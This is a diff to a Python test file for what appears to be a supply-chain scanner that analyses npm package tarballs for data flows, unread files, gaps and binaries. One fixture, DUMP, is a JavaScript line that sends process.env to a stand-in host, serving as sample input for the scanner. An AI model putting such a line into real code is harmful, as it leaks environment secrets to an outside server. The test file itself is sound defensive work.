@@ -1,6 +1,7 @@
 from __future__ import annotations
 
-from assay.assessment.sources import sources_of
+from assay.assessment.patience import Patience
+from assay.assessment.sources import MAX_GAPS, sources_of
 from assay.model.integrity import Integrity
 from assay.model.manifest import Manifest, manifest_from
 from assay.model.source import SourceFile
@@ -48,3 +49,27 @@ def test_a_file_that_is_reached_but_not_kept_is_a_gap() -> None:
 
 def test_types_and_texts_are_not_read() -> None:
     assert read({"index.d.ts": b"", "README.md": b"", "a.json": b""}) == {}
+
+
+DUMP = b"require('https').get('https://a.invalid/' + process.env)\n"
+
+
+def test_a_file_that_takes_too_long_is_a_gap_and_the_others_are_read() -> None:
+    files = tarball({"a.js": DUMP, "index.js": DUMP * 2_000})
+    ticks = iter(range(10**9))
+    sources, gaps = sources_of(files, Manifest(), Patience(lambda: next(ticks) / 20))
+    assert [gap.what for gap in gaps] == ["index.js, reached by main"]
+    assert [file.path for file in sources if file.flows and not file.unread] == ["a.js"]
+
+
+def test_gaps_are_counted_beyond_some() -> None:
+    files: dict[str, bytes | None] = {f"{number}.js": None for number in range(MAX_GAPS + 3)}
+    files["index.js"] = "".join(f"require('./{path}');" for path in files).encode()
+    _, gaps = sources_of(tarball(files), Manifest())
+    assert (len(gaps), gaps[-1].what) == (MAX_GAPS + 1, "3 more files")
+
+
+def test_machine_code_that_is_reached_is_no_gap() -> None:
+    program = Member("tool", 90_000, head=b"\x7fELF\x02\x01")
+    index = Member("index.js", 20, data=b"f(__dirname + '/tool')")
+    assert sources_of(Tarball(Integrity.of(b""), 0, 0, (program, index)), Manifest())[1] == ()
